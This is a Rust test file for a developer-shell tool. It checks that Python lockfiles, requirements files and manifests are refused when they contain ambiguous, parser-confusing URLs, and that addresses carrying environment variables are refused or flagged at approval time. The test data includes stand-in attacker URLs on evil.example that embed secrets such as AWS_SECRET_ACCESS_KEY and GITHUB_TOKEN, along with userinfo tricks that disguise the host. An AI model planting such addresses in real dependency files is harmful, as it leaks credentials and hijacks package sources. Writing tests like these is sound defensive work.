//! Addresses of lockfiles, lists and manifests: all programs read them alike, and the approval shows what they send.

use crate::support::Sandbox;

const DIGEST: &str = "0000000000000000000000000000000000000000000000000000000000000000";
const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

/// Returns a sandbox whose project takes its packages from a file.
fn project(lock: &str, text: &str) -> Sandbox {
    let sandbox = Sandbox::new().manifest(&format!(
        "[tools]\npython = \"3\"\n[python]\nlock = \"{lock}\"\n"
    ));
    sandbox.write("pyproject.toml", "[project]\nname = \"app\"\n");
    sandbox.write(lock, text);
    sandbox
}

/// Returns files with `address` as data of a lockfile, each with the line that has it.
fn lockfiles(address: &str) -> Vec<(&'static str, usize, String)> {
    let uv = |source: &str, wheel: &str| {
        format!(
            "version = 1\n[[package]]\nname = \"good\"\nversion = \"1\"\nsource = {{ {source} }}\n\
             wheels = [{{ url = '{wheel}', hash = \"sha256:{DIGEST}\" }}]\n"
        )
    };
    let pylock = |index: &str, wheel: &str, more: &str| {
        format!(
            "lock-version = \"1.0\"\n[[packages]]\nname = \"good\"\nversion = \"1\"\n{index}\n\
             wheels = [{{ url = '{wheel}', hashes = {{ sha256 = \"{DIGEST}\" }} }}]\n{more}"
        )
    };
    let poetry = |kind: &str| {
        format!(
            "[[package]]\nname = \"good\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\n\
             files = [{{ file = \"good-1.0-py3-none-any.whl\", hash = \"sha256:{DIGEST}\" }}]\n\
             [package.source]\ntype = \"{kind}\"\nurl = '{address}'\nresolved_reference = \"{COMMIT}\"\n"
        )
    };
    let wheel = "https://corp.example/good-1-py3-none-any.whl";
    let corp = "index = \"https://corp.example/simple/\"";
    let archive =
        format!("archive = {{ url = '{address}', hashes = {{ sha256 = \"{DIGEST}\" }} }}\n");
    let vcs = format!("vcs = {{ type = \"git\", url = '{address}', commit-id = \"{COMMIT}\" }}\n");
    let pdm = format!(
        "[[package]]\nname = \"good\"\nversion = \"1\"\n\
         files = [{{ url = '{address}', hash = \"sha256:{DIGEST}\" }}]\n"
    );
    vec![
        ("uv.lock", 5, uv(&format!("registry = '{address}'"), wheel)),
        ("uv.lock", 5, uv(&format!("url = '{address}'"), wheel)),
        (
            "uv.lock",
            5,
            uv(&format!("git = '{address}#{COMMIT}'"), wheel),
        ),
        (
            "uv.lock",
            6,
            uv("registry = \"https://corp.example/simple\"", address),
        ),
        (
            "uv.lock",
            6,
            uv("registry = \"https://pypi.org/simple\"", address),
        ),
        (
            "pylock.toml",
            5,
            pylock(&format!("index = '{address}'"), wheel, ""),
        ),
        ("pylock.toml", 6, pylock(corp, address, "")),
        ("pylock.toml", 6, pylock("", address, "")),
        ("pylock.toml", 7, pylock("", wheel, &archive)),
        ("pylock.toml", 7, pylock("", wheel, &vcs)),
        ("poetry.lock", 9, poetry("legacy")),
        ("poetry.lock", 9, poetry("url")),
        ("poetry.lock", 9, poetry("git")),
        ("pdm.lock", 4, pdm),
    ]
}

/// Returns files with `address` that the approval shows, each with the line that has it.
fn approved_files(address: &str) -> Vec<(&'static str, usize, String)> {
    let json = format!("'{address}'")
        .replace('\\', "\\\\")
        .replace('\'', "\"");
    let pdm = |key: &str| {
        format!(
            "[[package]]\nname = \"good\"\nversion = \"1\"\n{key} = '{address}'\nrevision = \"{COMMIT}\"\nfiles = [{{ hash = \"sha256:{DIGEST}\" }}]\n"
        )
    };
    let own = |more: &str| {
        format!("[project]\nname = \"app\"\nversion = \"1\"\ndependencies = [\"good\"]\n{more}")
    };
    vec![
        ("requirements.txt", 1, format!("good @ {address}\n")),
        ("requirements.txt", 1, format!("--index-url {address}\n")),
        (
            "requirements.txt",
            1,
            format!("--extra-index-url {address}\n"),
        ),
        ("requirements.txt", 1, format!("--find-links {address}\n")),
        ("requirements.txt", 1, format!("-c {address}\n")),
        ("requirements.txt", 1, format!("{address}#egg=good\n")),
        ("pdm.lock", 4, pdm("url")),
        ("pdm.lock", 4, pdm("git")),
        (
            "Pipfile.lock",
            1,
            format!(
                "{{ \"_meta\": {{ \"sources\": [ {{ \"name\": \"corp\", \"url\": {json} }} ] }} }}"
            ),
        ),
        (
            "Pipfile.lock",
            1,
            format!(
                "{{ \"default\": {{ \"good\": {{ \"git\": {json}, \"ref\": \"{COMMIT}\" }} }} }}"
            ),
        ),
        (
            "Pipfile",
            2,
            format!("[packages]\ngood = {{ git = '{address}' }}\n"),
        ),
        (
            "Pipfile",
            2,
            format!("[[source]]\nurl = '{address}'\n[packages]\n"),
        ),
        (
            "pyproject.toml",
            5,
            own(&format!("[[tool.uv.index]]\nurl = '{address}'\n")),
        ),
        (
            "pyproject.toml",
            6,
            own(&format!(
                "[tool.uv.sources]\ngood = {{ url = '{address}' }}\n"
            )),
        ),
        (
            "pyproject.toml",
            4,
            own("").replace("\"good\"", &format!("'good @ {address}'")),
        ),
    ]
}

#[test]
fn an_address_that_programs_read_differently_is_refused() {
    for address in [
        r"https://evil.example\@files.pythonhosted.org/good-1-py3-none-any.whl",
        "https://evil.example@a@files.pythonhosted.org/good-1-py3-none-any.whl",
        "https:///evil.example/good-1-py3-none-any.whl",
    ] {
        let files = lockfiles(address)
            .into_iter()
            .chain(approved_files(address));
        for (lock, line, text) in files {
            let place = format!("--> {lock}:{line}:");
            project(lock, &text)
                .devsh(&["allow", "--offline"])
                .code(1)
                .error(&[&place]);
        }
        for (manifest, line) in [
            (format!("[conda]\nchannels = ['{address}']\n"), 2),
            (format!("extends = ['{address}']\n"), 1),
            (format!("extends = ['git+{address}']\n"), 1),
            (format!("[[caches]]\nurl = '{address}'\n"), 2),
            (format!("[python]\npackages = ['good @ {address}']\n"), 2),
        ] {
            let place = format!("--> devshell.toml:{line}:");
            Sandbox::new()
                .manifest(&manifest)
                .devsh(&["allow", "--offline"])
                .code(1)
                .error(&[&place]);
        }
    }
}

#[test]
fn no_lockfile_sends_a_variable() {
    for address in [
        "https://corp.example/good-1-py3-none-any.whl?t=${GITHUB_TOKEN}",
        "https://${GITHUB_TOKEN}@corp.example/good-1-py3-none-any.whl",
    ] {
        for (lock, line, text) in lockfiles(address) {
            let place = format!("--> {lock}:{line}:");
            project(lock, &text)
                .devsh(&["allow", "--offline"])
                .code(1)
                .error(&["refers to a variable", &place]);
        }
    }
}

#[test]
fn the_approval_shows_the_variables_that_an_address_sends() {
    for address in [
        "https://evil.example/good-1-py3-none-any.whl?k=${AWS_SECRET_ACCESS_KEY}",
        "https://${AWS_SECRET_ACCESS_KEY}@evil.example/good-1-py3-none-any.whl",
        "https://u:${AWS_SECRET_ACCESS_KEY}@evil.example/good-1-py3-none-any.whl",
    ] {
        for (lock, _, text) in approved_files(address) {
            let shown = project(lock, &text).devsh(&["allow", "--show"]);
            let list = &shown.stderr;
            for part in [
                "evil.example",
                "${AWS_SECRET_ACCESS_KEY}",
                "(sends your variable AWS_SECRET_ACCESS_KEY)",
            ] {
                assert!(list.contains(part), "{part} in {text}: {shown}");
            }
        }
    }
}
